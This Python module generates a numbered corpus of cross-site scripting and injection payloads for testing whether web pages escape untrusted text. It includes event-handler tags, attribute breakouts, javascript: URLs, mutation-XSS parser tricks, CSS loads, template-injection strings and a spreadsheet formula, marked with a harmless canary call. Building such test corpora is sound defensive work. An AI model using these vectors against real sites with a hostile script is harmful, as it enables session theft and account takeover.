"""Texts that would run a script, or become an element, where a page forgets to escape: built from a grammar.

In: nothing. Out: payloads, each with a number of its own. Follows: each calls ``__ran`` with it, each element that it
might become carries the attribute ``data-x19``, and each ends with a word by which it is found again as text.
"""

import itertools
from collections.abc import Iterator

import msgspec

CANARY = "//x19.invalid"
# What an element needs to act by itself: its attributes, the event, what must stand in it.
ELEMENTS = (
    ("img", "src=x", "onerror"),
    ("IMG", 'src="x"', "OnErRoR"),
    ("svg", "", "onload"),
    ("body", "", "onload"),
    ("input", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("button", "autofocus", "onfocus"),
    ("a", "href=# autofocus tabindex=0", "onfocus"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("audio", "src=x", "onerror"),
    ("video", "autoplay", "onloadstart"),
    ("object", "data=x", "onerror"),
    ("embed", "src=x", "onload"),
    ("iframe", "src=about:blank", "onload"),
    ("link", f"rel=stylesheet href={CANARY}/c", "onerror"),
    ("style", "", "onload"),
    ("script", "src=x", "onerror"),
    ("marquee", "", "onstart"),
    ("math", "tabindex=0 autofocus", "onfocus"),
    ("x-y", "tabindex=0 autofocus", "onfocus"),
    ("div", "contenteditable autofocus", "onfocus"),
    ("dialog", "open tabindex=0 autofocus", "onfocus"),
    ("form", "", "onformdata"),
)
# How the parts of a tag are joined and quoted: {r} is the call, {m} the mark.
WRITINGS = (
    "<{tag} {more} {m} {event}={r}>",
    '<{tag} {more} {m} {event}="{r}">',
    "<{tag} {more} {m} {event}='{r}'/>",
    "<{tag}/{m}/{more}/{event}={r}//",
    "<{tag}\t{more}\n{m}\r\n{event}\t=\n{r} >",
    '"><{tag} {more} {m} {event}={r}>',
    "'><{tag} {more} {m} {event}={r} x='",
    "</textarea></title></style></script><{tag} {more} {m} {event}={r}>",
    "--><{tag} {more} {m} {event}={r}><!--",
    "]]><{tag} {more} {m} {event}={e}>",
)
SCRIPTS = (
    *("<script {m}>{r}</script>", "<ScRiPt/{m}>{r}</sCrIpT>", "<script {m} src={canary}/{n}></script>"),
    *("</script><script {m}>{r}</script>", "<svg {m}><script>{r}</script></svg>", "<scr<script>ipt {m}>{r}</script>"),
    *("<script {m} type=module>{r}</script>", "<!--><script {m}>{r}</script>", "<template><script {m}>{r}</script>"),
    *(
        "<math {m}><script>{r}</script>",
        "<noscript><p title='</noscript><script {m}>{r}</script>'>",
        "<script {m}>{r}//",
    ),
    *("%3Cscript {m}%3E{r}%3C/script%3E", "&lt;script {m}&gt;{r}&lt;/script&gt;", "\\u003cscript {m}\\u003e{r}"),
    *("\\x3cscript {m}\\x3e{r}", "&#60;script {m}&#62;{r}", "+ADw-script {m}+AD4-{r}", "＜script {m}＞{r}＜/script＞"),
    *("<\x00script {m}>{r}</script>", "<script\x0c{m}>{r}</script>", "<\u200bscript {m}>{r}", "\u2028</script><b {m}>"),
)
BROKEN = (
    *('" onfocus={r} autofocus {m} x="', "' onfocus={r} autofocus {m} x='", "` onfocus={r} autofocus {m} x=`"),
    *(
        '" onmouseover="{r}" {m} "',
        "' style=animation-name:x onanimationstart={r} {m} '",
        "x onfocus={r} autofocus {m} y",
    ),
    *(
        '\\" onfocus={r} {m} "',
        "&quot; onfocus={r} {m} &quot;",
        "&#34; onfocus={r} {m} x=&#34;",
        "\" accesskey=x onclick='{r}' {m} '",
    ),
    *(
        '"/><b {m}>',
        "'/><b {m}>",
        "</td></tr></table><b {m}>",
        "</option></select><b {m}>",
        "</a><b {m}>",
        "</svg><b {m}>",
    ),
    *("</math><b {m}>", "</template><b {m}>", "</iframe><b {m}>", "</xmp><b {m}>", "</noscript><b {m}>", "--!><b {m}>"),
)
ADDRESSES = (
    *(
        "javascript:{r}",
        "JaVaScRiPt:{r}",
        "java\tscript:{r}",
        "java\nscript:{r}",
        " javascript:{r}",
        "\x01javascript:{r}",
    ),
    *("javascript&colon;{r}", "&#106;avascript:{r}", "&#x6A&#x61;vascript:{r}", "javascript://x%0a{r}", "vbscript:{r}"),
    *(
        "data:text/html,<script {m}>{r}</script>",
        "data:image/svg+xml,<svg onload={r} {m}>",
        "data:text/html;base64,PHN2Zz4=",
    ),
    *("{canary}/{n}", "https:{canary}/{n}", "/\\x19.invalid/{n}", "blob:{n}", "view-source:javascript:{r}"),
)
CARRIERS = (
    *("{u}", "<a href='{u}' {m}>x</a>", "<iframe src='{u}' {m}></iframe>", "<form action='{u}' {m}><button autofocus>"),
    *(
        "[x]({u})",
        "![x]({u})",
        '![x]({u} "{m}")',
        "<{u}>",
        "[x]: {u}",
        "![]({u})",
        "$\\href{{{u}}}{{x}}$",
        "$\\url{{{u}}}$",
    ),
    *("<svg {m}><a xlink:href='{u}'><text>x</text></a></svg>", "<math {m}><mi href='{u}'>x</mi></math>"),
    *("<object data='{u}' {m}></object>", "<meta http-equiv=refresh content='0;url={u}' {m}>", "<base href='{u}' {m}>"),
    *("<link rel=import href='{u}' {m}>", "<img src='{u}' {m}>"),
)
FORMULAS = (
    *(
        "$\\text{{<img src=x onerror={r} {m}>}}$",
        "$<img src=x onerror={r} {m}>$",
        '$\\class{{x" onclick={r} {m} "}}{{y}}$',
    ),
    *(
        "$\\unicode{{60}}b {m}>$",
        "$\\style{{background:url({canary})}}{{x}}$",
        "$\\frac{{<b {m}>}}{{2}}$",
        "$\\alpha<b {m}>$",
    ),
    *(
        "$x^{{</math><b {m}>}}$",
        '$\\mathrm{{"><svg onload={r} {m}>}}$',
        "$\\sqrt{{{r}}}$ <b {m}>",
        "$\\overline{{<b {m}>}}$",
    ),
)
MUTATED = (
    *("<math {m}><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={r}&gt;'>",),
    *(
        "<svg {m}><style><a title='</style><img src=x onerror={r}>'>",
        "<form {m}><math><mtext></form><form><mglyph><svg onload={r}>",
    ),
    *("<noscript><style {m}></noscript><img src=x onerror={r}>", "<p {m} id='</title><img src=x onerror={r}>'>"),
    *(
        "<svg></p><style><g title='</style><b {m} onfocus={r} tabindex=0 autofocus>'>",
        "<table><td {m} background='{canary}/{n}'>",
    ),
    *(
        "<select {m}><style></select><svg onload={r}>",
        "<xmp><p title='</xmp><svg onload={r} {m}>'>",
        "<!--[if]><b {m}>--><b {m}>",
    ),
    *(
        "<?xml version='1.0'?><b {m}/>",
        "<![CDATA[<b {m}>]]>",
        "<!DOCTYPE x [<!ENTITY y '<b {m}>'>]>&y;",
        "<image src=x onerror={r} {m}>",
    ),
)
STYLES = (
    *(
        "<style {m}>@import url({canary}/{n});</style>",
        "<b {m} style=background:url({canary}/{n})>",
        "}}*{{background:url({canary}/{n})}}",
    ),
    *(
        "<b {m} style='behavior:url({canary})'>",
        "<link rel=stylesheet href={canary}/{n} {m}>",
        "x;background:url({canary}/{n})",
    ),
    *(
        "expression({r})",
        "<style {m}>b{{animation:x}}@keyframes x{{}}</style><b onanimationstart={r}>",
        "<img srcset={canary}/{n} {m}>",
    ),
)
TEMPLATES = (
    *(
        "{{{{ {n}*19 }}}}<b {m}>",
        "{{% include 'x' %}}<b {m}>",
        "${{{r}}}<b {m}>",
        "<%= {r} %><b {m}>",
        "#{{{r}}}<b {m}>",
    ),
    *(
        "{{{{constructor.constructor('{r}')()}}}}<b {m}>",
        "[[${{{r}}}]]<b {m}>",
        "*{{{r}}}<b {m}>",
        "{{{{'x'|safe}}}}<b {m}>",
    ),
    *(
        "{{% autoescape off %}}<b {m}>",
        "__n__<b {m}>",
        "%(x)s<b {m}>",
        "{{0}}{{x.__class__}}<b {m}>",
        "\\1<b {m}>",
        "$&<b {m}>$`",
    ),
)
QUOTED = (
    *(
        '";{r};//',
        "';{r};//",
        "`;{r};//",
        "'-{r}-'",
        '"-{r}-"',
        "\\';{r};//",
        "*/{r};/*",
        "\u2028{r}//",
        "\n{r}\n",
        "-->{r}<!--",
    ),
    *(
        '{{"x":"</script><b {m}>"}}',
        '"}}</script><svg onload={r} {m}>',
        "\\u0022;{r};//",
        "&apos;;{r};//",
        "</script/><b {m}>",
    ),
)
PLACES = (
    *(
        "\ufdd0<b {m}>",
        "\ufdd1 onfocus={r} autofocus {m} ",
        "\ufdd2\ufdd3\ufdd4 onerror={r} {m} ",
        "\ufdd2![](plan.png)\ufdd3 {m} onerror={r} ",
    ),
    *(
        "| a | b |\n|---|---|\n| <b {m}> | <svg onload={r} {m}> |",
        "![<b {m}>](plan.png)",
        "![](<b {m}>)",
        '![](x"onerror={r}{m}")',
    ),
    *(
        "\u202e<b {m}>",
        "\ufeff<b {m}>",
        "<b\u3000{m}>",
        "<ſcript {m}>{r}</ſcript>",
        "<b {m}>\u0000</b>",
        "﹤b {m}﹥",
        "‹b {m}›",
        "<İmg src=x onerror={r} {m}>",
    ),
    *(
        '=HYPERLINK("{canary}","<b {m}>")',
        "+1<b {m}>",
        "@x<b {m}>",
        "https:{canary}/<b {m}>",
        "x@x19.invalid<b {m}>",
        "tel:<b {m}>",
    ),
)


class Payload(msgspec.Struct, frozen=True, kw_only=True):
    """A text, its number, the word by which it is found."""

    number: int
    word: str
    text: str


def list_forms() -> Iterator[tuple[str, dict[str, str]]]:
    """Every writing, with what is put into it besides number, mark and call."""
    for (tag, more, event), writing in itertools.product(ELEMENTS, WRITINGS):
        yield writing, {"tag": tag, "more": more, "event": event}
    for carrier, address in itertools.product(CARRIERS, ADDRESSES):
        yield carrier, {"u": address}
    for plain in (*SCRIPTS, *BROKEN, *FORMULAS, *MUTATED, *STYLES, *TEMPLATES, *QUOTED, *PLACES):
        yield plain, {}


def build_payloads() -> tuple[Payload, ...]:
    """All of them."""
    return tuple(build(number, form, parts) for number, (form, parts) in enumerate(list_forms()))


def build(number: int, form: str, parts: dict[str, str]) -> Payload:
    """One with its number in it. The word stands behind, since some act only at the very beginning of a text."""
    call, word = f"__ran({number})", f"x19q{number}z"
    known = {"r": call, "e": call.replace("(", "&#40;"), "m": f"data-x19={number}", "n": str(number), "canary": CANARY}
    if "u" in parts:
        known["u"] = parts["u"].format(**known)
    text = form.format(**{**parts, **known})
    return Payload(number=number, word=word, text=f"{text} {word}")
